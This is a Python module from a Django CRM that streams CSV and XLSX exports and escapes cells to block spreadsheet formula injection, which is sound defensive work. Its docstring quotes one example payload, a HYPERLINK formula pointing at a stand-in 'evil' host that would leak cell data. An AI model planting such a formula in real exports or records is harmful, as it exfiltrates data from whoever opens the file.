"""The one way to hand rows to a spreadsheet: CSV or XLSX, streamed, with formula cells defused.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or carriage return) as a
formula, so a client named `=HYPERLINK("http://evil/?"&A1)` (names can come from the anonymous complaint form)
would attack whoever opens the export. Following OWASP's CSV injection guidance every text cell starting with
one of those characters gets a leading single quote; numbers (int, Decimal, float) are written as numbers and
are never touched, so pass figures as numbers, not as text.

Every export in the project goes through `export_response` (`tests/crm/test_exports.py` fails on a CSV
writer or workbook anywhere else, and on an export URL that has no escaping test)."""

import csv
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from contextlib import nullcontext
from datetime import date, datetime
from decimal import Decimal

from django.http import FileResponse, StreamingHttpResponse

from crm.db import replica_reads, stream_from_replica

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
FORMATS = ("csv", "xlsx")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value):
    """A cell a spreadsheet shows as written: text starting with a formula character gets a leading quote;
    numbers stay numbers; None is empty; dates are ISO text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, (int, float, Decimal)):
        return value
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def safe_row(row: Iterable) -> list:
    return [safe_cell(v) for v in row]


class _Echo:
    """csv.writer's file: each writerow returns the line instead of buffering it."""

    def write(self, value):
        return value


def csv_lines(header: Sequence[str], rows: Iterable[Iterable]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(*, filename: str, header: Sequence[str], rows: Iterable[Iterable], from_replica: bool = False):
    """Streamed: the rows are read while the response is sent (on the replica with `from_replica`, since the
    body is produced after the view returned), so a list of every client never sits in memory."""
    lines = csv_lines(header, rows)
    body = stream_from_replica(lines) if from_replica else lines
    response = StreamingHttpResponse(body, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(
    *, filename: str, header: Sequence[str], rows: Iterable[Iterable], sheet: str = "Export", from_replica=False
):
    """openpyxl's write-only workbook keeps one row in memory at a time; the zip is spooled to a temporary
    file (memory up to 2 MB, then disk) and sent from it in chunks. Text cells are typed as strings, so even a
    cell the escaping let through is never stored as a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    def write(out) -> None:
        book = Workbook(write_only=True)
        ws = book.create_sheet(title=sheet[:31])

        def cells(values):
            result = []
            for value in safe_row(values):
                cell = WriteOnlyCell(ws, value=value)
                if isinstance(value, str):
                    cell.data_type = "s"
                result.append(cell)
            return result

        ws.append(cells(header))
        for row in rows:
            ws.append(cells(row))
        book.save(out)

    out = tempfile.SpooledTemporaryFile(max_size=2 * 1024 * 1024)  # noqa: SIM115 - closed by FileResponse
    with replica_reads() if from_replica else nullcontext():
        write(out)
    out.seek(0)
    return FileResponse(out, as_attachment=True, filename=f"{filename}.xlsx", content_type=XLSX_TYPE)


def wanted_format(request) -> str:
    """`?format=xlsx` asks for a workbook; anything else is CSV."""
    fmt = request.GET.get("format", "csv")
    return fmt if fmt in FORMATS else "csv"


def export_response(
    request,
    *,
    filename: str,
    header: Sequence[str],
    rows: Iterable[Iterable],
    from_replica: bool = False,
    sheet: str = "Export",
):
    """CSV or XLSX as the request asks (`?format=`), both escaped and streamed."""
    if wanted_format(request) == "xlsx":
        return xlsx_response(filename=filename, header=header, rows=rows, sheet=sheet, from_replica=from_replica)
    return csv_response(filename=filename, header=header, rows=rows, from_replica=from_replica)
